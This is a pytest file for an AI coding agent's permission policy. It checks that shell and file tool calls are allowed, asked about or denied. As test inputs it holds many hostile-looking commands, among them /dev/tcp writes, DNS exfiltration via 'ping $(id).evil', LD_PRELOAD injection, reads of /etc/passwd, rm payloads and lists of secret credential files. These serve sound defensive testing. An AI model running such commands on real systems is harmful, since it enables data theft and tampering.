"""What policy decides: the rows P01 to P38, the defaults, the modes, protected and secret files."""

import os
from collections.abc import Sequence
from pathlib import Path

import pytest

from tests.cli.mock import zap
from tests.safety.test_rules import inside
from zaptui.config.files import Loaded, load_settings
from zaptui.config.schema import ProjectSettings, Settings
from zaptui.core.json import Json, JsonObject
from zaptui.core.ports import Decision
from zaptui.errors import ConfigError
from zaptui.providers.scripted import Scripted, ScriptedReply
from zaptui.safety.policy import Mode, Policy
from zaptui.safety.rule_files import is_protected, is_secret, resolver
from zaptui.safety.rules import Action, RuleSet, parse_rule, parse_rules
from zaptui.safety.sandbox import NO_SANDBOX
from zaptui.safety.shell_lexer import NotAnalysable, Script, lex
from zaptui.wiring.build import Model
from zaptui.wiring.headless import run_headless
from zaptui.wiring.options import RunOptions
from zaptui.wiring.permissions import Guard, rules_in_force


def policy(
    *allow: str,
    deny: Sequence[str] = (),
    ask: Sequence[str] = (),
    mode: Mode = "ask",
    exact: Sequence[tuple[str, str]] = (),
    has_approver: bool = False,
) -> Policy:
    sources: dict[Action, Sequence[str]] = {"allow": allow, "deny": deny, "ask": ask}
    rules = [
        rule
        for action, texts in sources.items()
        for rule in parse_rules(texts, action=action, source="test")
    ]
    return Policy(
        rules=RuleSet(rules=tuple(rules)),
        mode=mode,
        resolve=inside,
        exact=exact,
        has_approver=has_approver,
    )


def shell(judge: Policy, command: str) -> Decision:
    return judge("shell", {"command": command})


def harmless(first: str, *rules: str, but_not: Sequence[str]) -> None:
    """With these rules the first command runs unasked, and none of the others does: a person is
    asked, and where there is nobody the call is refused with a reason on one line."""
    allow = rules or (f"shell({first})",)
    assert shell(policy(*allow), first).verdict == "allow"
    for text in but_not:
        asked = shell(policy(*allow, has_approver=True), text)
        assert (text, asked.verdict, asked.by) == (text, "ask", "policy")
        alone = shell(policy(*allow), text)
        assert (text, alone.verdict) == (text, "ask")
        assert alone.reason.isprintable()
        assert "nobody to ask, --yes" in alone.reason
        assert shell(policy(*allow, mode="propose"), text).verdict == "deny"


def test_P01_chaining() -> None:
    texts = [
        "git log && rm x",
        "git log; rm x",
        "git log || rm x",
        "git log | rm x",
        "git log&&rm x",
    ]
    harmless("git log", but_not=[*texts, "rm x;git log", "git log;rm x", "git log|rm x"])
    harmless("git log", "shell(git log)", "shell(rm x)", but_not=["git log && rm y"])
    both = policy("shell(git log)", "shell(rm x)")
    assert shell(both, "git log && rm x") == Decision(
        verdict="allow", by="shell(git log) (test), shell(rm x) (test)"
    )


def test_P02_newline() -> None:
    harmless("git log", but_not=["git log\nrm x", "rm x\ngit log", "git log\n\n\trm x"])


def test_P03_newline_and_backslash() -> None:
    text = "ls c\n\\touch pwned"
    assert lex(text) == NotAnalysable("a backslash outside quotes")
    harmless("ls c", "shell(ls ...)", but_not=[text, "ls c\\\nd"])


def test_P04_a_character_that_crashes_parsers() -> None:
    harmless("echo a", "shell(echo ...)", but_not=["echo {\U000e0041", "echo '{\U000e0041'"])


def test_P05_newline_after_a_pipeline() -> None:
    text = "a | grep x | head -30\necho B && cd s"
    read = lex(text)
    assert isinstance(read, Script)
    assert [argv[0] for argv in read.commands] == ["a", "grep", "head", "echo", "cd"]
    rules = ("shell(a)", "shell(grep ...)", "shell(head ...)", "shell(echo ...)")
    harmless("a | grep x | head -30\necho B", *rules, but_not=[text, f"{text}; ls", "a | sh"])


def test_P06_what_is_read_in_part() -> None:
    text = "git add . && git commit -F - <<'M' 2>&1 | rm -rf d\nm\nM"
    harmless("git add .", but_not=[text])
    assert shell(policy(deny=["shell(rm ...)"], mode="yes"), text).verdict == "deny"


def test_P07_substitution() -> None:
    texts = ['git log --grep="$(id)"', "git log --grep=`id`", "git log $(id)", 'git log "`id`"']
    harmless("git log -1", "shell(git log *)", "shell(git log -1)", but_not=texts)


def test_P08_substitution_as_the_command() -> None:
    harmless("echo a", "shell(echo ...)", but_not=["$(echo touch x)", "`echo touch x`", "$x a"])


def test_P09_process_substitution() -> None:
    harmless("cat a", "shell(cat ...)", but_not=["cat <(id)", "cat a >(id)", "cat < a"])


def test_P10_here_document() -> None:
    texts = ["cat <<E\n$(id)\nE", "cat <<'E'\nx\nE\nrm y\nE", "cat <<< x", "cat <<-E\nx\n\tE\nid"]
    harmless("cat a", "shell(cat ...)", but_not=texts)


def test_P11_redirection() -> None:
    marks = [">", ">>", ">|", "&>", "<>", "2>", ">&", "&>>", "3<"]
    texts = [f"echo x {mark} f" for mark in marks] + ["echo x > ~/.bashrc", "echo x>f", "echo 2>&1"]
    harmless("echo x", "shell(echo ...)", but_not=texts)


def test_P12_redirection_as_the_command() -> None:
    harmless("echo x", "shell(echo ...)", but_not=[">&echo touch x", ">f echo x", "<f echo x"])


def test_P13_dev_tcp() -> None:
    texts = ["echo x > /dev/tcp/h/1", "exec 3<>/dev/tcp/h/1", "cat /dev/tcp/h/1"]
    harmless("echo x", "shell(echo ...)", "shell(cat ...)", but_not=texts)


def test_P14_variables_before_a_command() -> None:
    texts = ["LD_PRELOAD=./x ls", "PAGER=./x ls", "A= ls", "A=1 B=2 ls", "A+=1 ls", "a[0]=1 ls"]
    harmless("ls", "shell(ls ...)", but_not=[*texts, "GIT_EXTERNAL_DIFF=./x git diff"])


def test_P15_builtins_that_change_the_shell() -> None:
    before = ["export PATH=.:/bin", "a=b", "alias ls=rm", "set -f", "hash -p ./x ls", "cd .."]
    before += ["cd sub", "pushd x", "unset PATH", "shopt -s x", "enable -n echo", ". x", "umask 0"]
    texts = [f"{text}{joint}ls" for text in before for joint in ("; ", " && ", "\n", " | ")]
    rules = [f"shell({text})" for text in before if text != "a=b"]
    harmless("ls", "shell(ls ...)", *rules, but_not=[*texts, *before, "ls; cd x"])


def test_P16_variables() -> None:
    texts = ["cat${IFS}/etc/passwd", "cat ${x}", "cat $x", 'cat "$x"', "cat a$1", "cat $'a'"]
    harmless("cat a", "shell(cat ...)", but_not=texts)


def test_P17_a_flag_behind_a_backslash() -> None:
    harmless("find . -name x", but_not=["find . -ex\\ec touch x {} +", "find . -\\name x"])


def test_P18_brace_expansion() -> None:
    harmless("ls a", "shell(ls ...)", but_not=["ls {-delete,}", "{ls,-la}", "ls {1..3}", "ls a{b"])


def test_P19_globs() -> None:
    texts = ["ls *", "ls a?", "ls pass[w]d", "ls ./*", "ls @(a)", "ls !(a)", "ls ~", "ls ~root"]
    harmless("ls a", "shell(ls ...)", but_not=texts)


def test_P20_other_quotes() -> None:
    harmless("echo a", "shell(echo ...)", but_not=["echo $'\\x41'", 'echo $"a"', "echo a\\ b"])


def test_P21_a_quoted_command_name() -> None:
    texts = ['"ls" a', "'ls' a", "l''s a", "\\ls a", 'l"s" a']
    harmless("ls a", "shell(ls ...)", but_not=texts)
    denied = policy(deny=["shell(sudo ...)", "shell(rm ...)"], mode="yes")
    for text in ('"sudo" id', "r''m x", "\\rm x", "'rm' x", "s\\udo id", '$"rm" x'):
        assert shell(denied, text).verdict == "deny"


def test_P22_a_path_or_another_case_of_a_name() -> None:
    texts = ["./git status", "/x/git status", "../git status", "GIT status", "bin/git status"]
    harmless("git status", but_not=texts)
    harmless("./git status", but_not=["git status", "/x/git status", ".//git status"])
    denied = policy(deny=["shell(git ...)"], mode="yes")
    assert [shell(denied, text).verdict for text in texts] == ["deny"] * len(texts)


def test_P23_wrappers() -> None:
    wrapped = ["env rm x", "xargs rm", "nohup rm x", "timeout 5 rm x", "sudo -u y rm x"]
    wrapped += ["command rm x", "nice rm x", "setsid rm x", "env -S 'rm x'", "echo x | xargs rm"]
    harmless("rm x", "shell(rm ...)", but_not=wrapped)
    denied = policy(deny=["shell(rm ...)"], mode="yes")
    assert [shell(denied, text).verdict for text in wrapped] == ["deny"] * len(wrapped)
    piped = policy("shell(echo ...)", "shell(xargs rm)", "shell(sh)")
    assert shell(piped, "sh").verdict == "allow"
    for text in ("echo 'rm y' | sh", "echo y | xargs rm"):
        assert "may run what is piped into it" in shell(piped, text).reason


def test_P24_interpreters() -> None:
    texts = ["python -c 'import os'", "node -e 'x'", "bash x.sh", "perl -e 'x'", "python x.py"]
    harmless("python -V", "shell(python -V)", "shell(node *)", "shell(bash -n *)", but_not=texts)


def test_P25_find() -> None:
    options = ["-exec rm x +", "-execdir rm x", "-ok rm x", "-delete", "-fprintf f x"]
    texts = [f"find . {option}" for option in options] + ["find . -name x -delete"]
    harmless("find . -name x", "shell(find . -name *)", "shell(find *)", but_not=texts)


def test_P26_sed_and_awk() -> None:
    texts = ["sed -n '1e id' f", "sed 's/a/b/e' f", "sed -n 'w g' f", "awk 'BEGIN{system(\"id\")}'"]
    harmless("sed -n 1p f", but_not=texts)


def test_P27_ripgrep() -> None:
    texts = ["rg foo --pre ./x", "rg --pre=./x foo", "rg foo --hostname-bin", "rg -z foo"]
    harmless("rg foo src", "shell(rg foo *)", but_not=texts)


def test_P28_git() -> None:
    texts = ["git -c core.sshCommand=x status", "git ls-remote --upload-pack=./x .", "git x"]
    texts += ["git branch --edit-description", "git diff --ext-diff", "git log -p"]
    harmless("git status", but_not=texts)
    plain = ["git status", "git diff", "git log", "git show", "git blame x", "git ls-files -m"]
    assert [shell(policy(), text).verdict for text in plain] == ["ask"] * len(plain)


def test_P29_programs_whose_options_run_programs() -> None:
    texts = ["sort --compress-program=./x -S1b f", "tar --checkpoint-action=exec=x f"]
    texts += ["man -P x y", "file -m x y"]
    harmless(
        "sort f", "shell(sort *)", "shell(tar *)", "shell(man *)", "shell(file *)", but_not=texts
    )


def test_P30_programs_that_send() -> None:
    texts = ["ping $(id).evil", "nslookup a.evil", "curl https://x", "dig a.evil", "wget x"]
    harmless("ls", but_not=texts)


@pytest.mark.parametrize(
    "text",
    [
        *["ls &", "ls & rm x", "ls |& rm", "coproc ls", "time ls", "! ls", "[[ -n a ]]", "(( 1 ))"],
        *["f() { ls; }", "function f { ls; }", "(ls)", "{ ls; }", "if ls; then ls; fi"],
        *["for x in a; do ls; done", "while ls; do ls; done", "case a in a) ls;; esac", "[ a ]"],
    ],
)
def test_P31_grammar_that_is_not_read(text: str) -> None:
    harmless("ls", "shell(ls ...)", "shell(test ...)", but_not=[text])


@pytest.mark.parametrize("mark", ["\r", "\x0b", "\x0c", "\u00a0", "\u200b", "\u2028", "\x85"])
def test_P32_what_looks_like_a_blank(mark: str) -> None:
    texts = [f"ls{mark}rm x", f"ls{mark}-la", f"{mark}ls", f"ls '{mark}'", f"ls x{mark}\n"]
    harmless("ls", "shell(ls ...)", but_not=texts)
    assert "\\" not in shell(policy(), texts[0]).reason
    assert f"U+{ord(mark):04X}" in shell(policy(), texts[0]).reason


def test_P33_very_long_and_very_many() -> None:
    many, long = "true;" * 60 + "curl x", "true " + "a" * 200_000
    harmless("true", "shell(true ...)", "shell(curl x)", but_not=[many, long, "true;" * 21])
    denied = policy("shell(true ...)", deny=["shell(curl ...)"], mode="yes")
    for text in (many, f"{long}; curl x", f"{'true;' * 200_000} curl x"):
        assert shell(denied, text).verdict == "deny"


def test_P34_padding_that_hides() -> None:
    texts = ["ls" + "\t" * 300 + "&& rm x", "ls \u202e x", "ls\n" * 199 + "rm x", "ls\n" * 200]
    harmless("ls", "shell(ls ...)", but_not=texts)


def test_P35_leave_for_the_session_means_this_call_alone() -> None:
    judge = policy(has_approver=True)
    texts = ["a | b", "a\nb", "cd x && a", "cat /etc/hosts", "a -x 'y z'"]
    for text in texts:
        rule = judge.rule_for("shell", {"command": text})
        assert rule is not None
        judge.grant(rule)
        assert shell(judge, text) == Decision(
            verdict="allow", by=f"{' '.join(rule.split())} (this session)"
        )
    assert shell(policy(), "a | b").verdict == "ask"  # in this process, in that policy only
    for text in ("a", "b", "a | b | c", "cat /etc/passwd", "cd x", "cd x && b", "a -x"):
        assert shell(judge, text).verdict == "ask"
    for text in ("a > b", "a $x", "", "a &"):
        assert judge.rule_for("shell", {"command": text}) is None
    for rule in ("shell(a *)", "shell(b ...)", "write(src/**)", "read", "write(*.py)"):
        with pytest.raises(ConfigError, match="allows more than one call"):
            judge.grant(rule)


@pytest.mark.parametrize("rule", ["toString", "__class__", "shell(", "", "bash(ls)", "shell"])
def test_P36_a_wrong_rule_on_the_command_line_ends_with_78(rule: str, tmp_path: Path) -> None:
    ended = zap("run", "--cwd", str(tmp_path), "--allow", "read", "--allow", rule, "x")
    assert ended.code == 78
    assert f"zap: --allow: allow rule {rule!r}: " in ended.err


@pytest.mark.parametrize("text", ["ls\x00", "ls '\ud83d'", "\udcff", "ls \x00; rm x", "\x00"])
def test_P37_what_is_no_text_is_asked_about_without_a_traceback(text: str) -> None:
    harmless("ls", "shell(ls ...)", but_not=[text])
    for tool in ("read", "write", "edit", "list", "search"):
        assert Policy(resolve=resolver("."))(tool, {"path": text + "\x00"}).verdict == "deny"
        Policy(resolve=resolver("."))(tool, {"path": text})


@pytest.mark.parametrize("cwd", ["/", "..", "out/", "sub/../..", "~", 5, ["/"], ""])
def test_P38_a_cwd_of_the_model_is_refused_outside_the_root(cwd: Json) -> None:
    for mode in ("ask", "yes"):
        judge = policy("shell(ls)", mode=mode)
        assert judge("shell", {"command": "ls", "cwd": cwd}).verdict == "deny"
        assert judge("shell", {"command": "ls", "cwd": "sub"}).verdict == "allow"


def test_P36_a_wrong_rule_of_the_user_stops_and_one_of_a_project_is_left_out(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    home, root = tmp_path / "home", tmp_path / "root"
    for folder in (home, root / ".zap"):
        folder.mkdir(parents=True)
    monkeypatch.setenv("ZAP_HOME", str(home))
    user, project = home / "config.toml", root / ".zap" / "config.toml"
    user.write_text('[permissions]\nallow = ["shell(ls)"]\ndeny = ["shell(rm ...)"]\n')
    project.write_text('[permissions]\nask = ["shell(", "shell(ls)"]\ndeny = ["read(s/)"]\n')
    options = RunOptions(task="x", cwd=root, allow=["shell(pwd)"], deny=["write"])
    rules = rules_in_force(options, load_settings(os.environ, root))
    assert sorted((rule.action, rule.text, rule.source) for rule in rules.rules) == [
        ("allow", "shell(ls)", str(user)),
        ("allow", "shell(pwd)", "--allow"),
        ("ask", "shell(ls)", str(project)),
        ("deny", "read(s/)", str(project)),
        ("deny", "shell(rm ...)", str(user)),
        ("deny", "write", "--deny"),
    ]
    assert f"warning: {project}: ask rule 'shell('" in capsys.readouterr().err
    user.write_text('[permissions]\ndeny = ["shell("]\n')
    ended = zap("run", "--cwd", str(root), "x")
    assert (ended.code, f"{user}: deny rule 'shell('" in ended.err) == (78, True)


def test_a_command_that_is_refused_is_not_run_and_the_run_ends_with_3(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    replies = [
        ScriptedReply(calls=[("shell", {"command": "true && touch pwned"})]),
        ScriptedReply(text="It was refused."),
    ]
    code = run_headless(
        RunOptions(task="x", mode="none", save=False, cwd=tmp_path),
        Loaded(user=Settings(), project=ProjectSettings()),
        Model(provider=Scripted(replies), name="m", shown="m"),
        guard=Guard(decide=policy("shell(true)"), sandbox=NO_SANDBOX),
    )
    assert code == 3
    assert list(tmp_path.iterdir()) == []
    assert "no rule allows `touch pwned`" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("tool", "arguments", "verdict"),
    [
        ("read", {"path": "a.py"}, "allow"),
        ("list", {}, "allow"),
        ("search", {"pattern": "x"}, "allow"),
        ("list", {"path": ".env"}, "allow"),
        ("write", {"path": "a.py"}, "ask"),
        ("edit", {"path": "a.py"}, "ask"),
        ("shell", {"command": "ls"}, "ask"),
        *[(tool, {}, "allow") for tool in ("plan", "advance", "write_todos", "todo_write", "task")],
        *[(tool, {}, "allow") for tool in ("ask_user", "complete", "whatever")],
        ("read", {"path": 5}, "deny"),
        ("shell", {}, "deny"),
    ],
)
def test_what_holds_without_a_rule(tool: str, arguments: JsonObject, verdict: str) -> None:
    assert policy()(tool, arguments).verdict == verdict
    assert policy(has_approver=True)(tool, arguments).verdict == verdict


def test_a_secret_looking_file_asks_to_be_read() -> None:
    names = [".env", ".env.local", "x/.ENV", "a.pem", "id_rsa", "s/id_ed25519", ".netrc", ".npmrc"]
    names += [".pypirc", ".git-credentials", "a.KDBX", ".e\u200bnv", ".env ", "\uff0eenv"]
    assert [name for name in names if not is_secret(name)] == []
    plain = ["env", "a.env", "xid_rsa", "pem", "a.pem.py", ".env/x", "", "src/identity.py"]
    assert [name for name in plain if is_secret(name)] == []
    for tool in ("read", "search"):
        assert policy()(tool, {"path": "x/.env"}) == Decision(
            verdict="ask",
            by="policy",
            reason=f"{tool} needs leave: x/.env looks like it holds a secret; there is nobody to"
            f" ask, --yes or --allow '{tool}(x/.env)' would allow it",
        )
    assert policy("read(.env*)")("read", {"path": ".env"}).verdict == "allow"
    assert policy(mode="yes")("read", {"path": ".env"}).by == "--yes"


PROTECTED = [
    *[".git/config", ".GIT/config", ".git", "sub/.git/hooks/pre-commit", ".zap/config.toml"],
    *[".envrc", ".vscode/tasks.json", ".idea/x.xml", ".bashrc", "home/.zshrc", ".profile"],
    *[".github/workflows/ci.yml", ".GitHub/Workflows/x", ".gitlab-ci.yml", ".husky/pre-push"],
    *["hooks/pre-commit", "x/.githooks/y", ".g\u200bit/config", ".git /x", ".git./x", ".Zap/new"],
    *["\uff0egit/config", ".vſcode/x", "src/../.git/config", "./.git//config", ".git/../src/a"],
]


@pytest.mark.parametrize("path", PROTECTED)
def test_F08_a_protected_file_asks_whatever_the_rules_and_the_mode(path: str) -> None:
    assert is_protected(path)
    for tool in ("write", "edit"):
        for mode in ("ask", "yes"):
            rules, exact = ("write", "edit", "write(**)", "edit(.git/)"), [(tool, path)]
            alone = policy(*rules, mode=mode, exact=exact)
            person = policy(*rules, mode=mode, exact=exact, has_approver=True)
            assert alone(tool, {"path": path}).verdict == "deny"
            assert person(tool, {"path": path}).verdict == "ask"
            assert person.rule_for(tool, {"path": path}) is None
    assert policy()("list", {"path": path}).verdict == "allow"


def test_other_files_are_not_protected() -> None:
    plain = ["git/config", ".gitignore", ".github/x.yml", "src/hooks/use.ts", "hooks/x", "a.git"]
    plain += ["workflows/ci.yml", "webhooks/update", "zap/x", "profile", "", ".", "pre-commit"]
    assert [path for path in plain if is_protected(path)] == []


def test_a_link_to_a_protected_file_is_protected(tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    (tmp_path / "plain").symlink_to(".git")
    judge = Policy(resolve=resolver(str(tmp_path)), mode="yes")
    assert judge("write", {"path": "plain/config"}).verdict == "deny"
    assert judge("write", {"path": "new/folder/a.py"}).verdict == "allow"


@pytest.mark.parametrize("tool", ["read", "list", "search", "write", "edit"])
@pytest.mark.parametrize("path", ["../x", "/etc/passwd", "out/x", "~/x", ""])
def test_a_path_outside_the_workspace_is_denied_in_every_mode(
    tool: str, path: str, tmp_path: Path
) -> None:
    (tmp_path / "out").symlink_to("/etc")
    rules = RuleSet(rules=(parse_rule(tool, action="allow", source="test"),))
    for mode in ("ask", "yes", "propose"):
        judge = Policy(rules=rules, mode=mode, resolve=resolver(str(tmp_path)))
        decision = judge(tool, {"path": path})
        assert decision == Decision(
            verdict="deny", by="policy", reason=f"{path} is outside the workspace"
        )


def test_a_path_is_resolved_as_the_file_tools_do(tmp_path: Path) -> None:
    (tmp_path / "root" / "a").mkdir(parents=True)
    (tmp_path / "root" / "link").symlink_to("a")
    (tmp_path / "root" / "loop").symlink_to("loop")
    (tmp_path / "root-evil").mkdir()
    (tmp_path / "alias").symlink_to("root")
    resolve = resolver(str(tmp_path / "alias"))
    root = tmp_path / "root"
    assert {path: resolve(path) for path in (".", "a/b", "link/b", "new/x/y", "a/../b")} == {
        ".": ".",
        "a/b": "a/b",
        "link/b": "a/b",
        "new/x/y": "new/x/y",
        "a/../b": "b",
    }
    assert resolve(str(root / "a")) == resolve(str(tmp_path / "alias" / "a")) == "a"
    outside = ["..", "../root-evil/x", str(tmp_path), "new/../../x", "", "~", "~/x", "a\x00"]
    assert [path for path in outside if resolve(path) is not None] == []


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        ("cat /etc/passwd", "/etc/passwd is outside the workspace"),
        ("cat ../x", "../x is outside the workspace"),
        ("cat a/../../x", "a/../../x is outside the workspace"),
        ("cat --file=/etc/x", "/etc/x is outside the workspace"),
        ("cat -I/etc/x", "/etc/x is outside the workspace"),
        ("cat of=../x", "../x is outside the workspace"),
        ("cat a:/etc/x", "/etc/x is outside the workspace"),
        ("cat @/etc/x", "/etc/x is outside the workspace"),
        ("cat '~/x'", "~/x is outside the workspace"),
        ("cat out/x", "out/x is outside the workspace"),
        ("cat file:///etc/x", "///etc/x is outside the workspace"),
        ("cat .git/hooks/x", ".git/hooks/x is protected"),
        ("./run; cat a", "no rule allows `./run`"),
        ("cat a; rm b", "no rule allows `rm b`"),
        ("cd x; cat a", "`cd` changes the shell or runs what it is given"),
        ("cat a > b", "the command is not surely understood: a `>` outside quotes"),
    ],
)
def test_a_command_that_leads_away_asks_whatever_its_rule(command: str, reason: str) -> None:
    decision = shell(policy("shell(cat ...)", has_approver=True), command)
    assert decision == Decision(verdict="ask", by="policy", reason=f"shell needs leave: {reason}")
    assert shell(policy(mode="yes"), command) == Decision(verdict="allow", by="--yes")


def test_a_command_within_the_workspace_runs_by_its_rule() -> None:
    judge = policy("shell(cat ...)")
    words = ["a", "src/a", "./a", "a/../b", "/home/me/app/a", "--x=a/b", "https://x.org/a/../b"]
    for word in [*words, "HEAD:a", "a@b", "s/a/b/"]:
        assert shell(judge, f"cat {word}") == Decision(verdict="allow", by="shell(cat ...) (test)")


def test_propose_reads_and_does_nothing_else() -> None:
    judge = policy("write", "edit", "shell(ls)", mode="propose", exact=[("shell", "ls")])
    for tool, arguments in (
        ("write", {"path": "a"}),
        ("edit", {"path": "a"}),
        ("shell", {"command": "ls"}),
    ):
        assert judge(tool, arguments).verdict == "deny"
        assert judge.rule_for(tool, arguments) is None
    assert judge("read", {"path": "a"}).verdict == "allow"
    assert judge("plan", {}).verdict == "deny"


@pytest.mark.parametrize("mode", ["ask", "yes", "propose"])
def test_a_deny_rule_holds_in_every_mode_and_beats_every_rule(mode: Mode) -> None:
    judge = policy(
        "shell(rm x)",
        "read",
        deny=["shell(rm ...)", "read(s/**)", "plan", "task"],
        ask=["shell(rm ...)"],
        mode=mode,
        exact=[("shell", "rm x")],
    )
    assert shell(judge, "rm x") == Decision(
        verdict="deny",
        by="shell(rm ...) (test)",
        reason="the rule shell(rm ...) (test) denies it",
    )
    assert judge("read", {"path": "s/a"}).verdict == "deny"
    for tool in ("plan", "advance", "write_todos", "todo_write", "task"):
        assert judge(tool, {}).verdict == "deny"
    assert judge("complete", {}).verdict == "allow"


def test_an_ask_rule_beats_an_allow_rule_and_yields_to_yes() -> None:
    rules = {"ask": ["shell(git push ...)", "read(a)", "plan"]}
    asks = policy("shell(git push)", "read(a)", "plan", **rules, exact=[("shell", "git push")])
    assert shell(asks, "git push") == Decision(
        verdict="ask",
        by="shell(git push ...) (test)",
        reason="shell needs leave: the rule shell(git push ...) (test) asks; there is nobody to"
        " ask, --yes would allow it",
    )
    assert asks("read", {"path": "a"}).verdict == "ask"
    assert asks("plan", {}).verdict == "ask"
    assert shell(policy(**rules, mode="yes"), "git push").by == "--yes"


def test_a_refusal_says_which_rule_would_allow_it() -> None:
    hints = {
        "pytest -q": "--yes or --allow 'shell(pytest -q)' would allow it",
        "ls": "--yes or --allow 'shell(ls)' would allow it",
        "a | b": """--yes or --allow 'shell='"'"'a | b'"'"'' would allow it""",
        "cat /etc/x": """--yes or --allow 'shell='"'"'cat /etc/x'"'"'' would allow it""",
        "a\nb": "--yes would allow it",
        "a $x": "--yes would allow it",
        f"a {'b' * 500}": "--yes would allow it",
    }
    for text, hint in hints.items():
        assert shell(policy(), text).reason.endswith(f"there is nobody to ask, {hint}")
        assert "\n" not in shell(policy(), text).reason
    written = policy()("write", {"path": "x/../a.py"})
    assert written.reason == (
        "write needs leave: no rule allows it; there is nobody to ask, --yes or --allow"
        " 'write(./a.py)' would allow it"
    )


def test_an_exact_call_needs_no_leave_and_nothing_near_it_does() -> None:
    judge = policy(exact=[("shell", "a && b"), ("edit", "x.py")])
    assert shell(judge, "a && b") == Decision(verdict="allow", by="built-in rule")
    assert judge("edit", {"path": "x.py"}).by == "built-in rule"
    assert shell(judge, "a").verdict == "ask"
    assert judge("write", {"path": "x.py"}).verdict == "ask"


def test_a_grant_for_a_file_means_the_file_it_leads_to() -> None:
    judge = policy(has_approver=True)
    rule = judge.rule_for("write", {"path": "src/../a[1].py"})
    assert rule == "write(./a[[]1].py)"
    judge.grant(rule)
    assert judge("write", {"path": "a[1].py"}).by == "write(./a[[]1].py) (this session)"
    assert judge("write", {"path": "sub/a[1].py"}).verdict == "ask"
    assert judge("edit", {"path": "a[1].py"}).verdict == "ask"
    assert judge.rule_for("write", {"path": "../x"}) is None
    assert judge.rule_for("plan", {}) is None
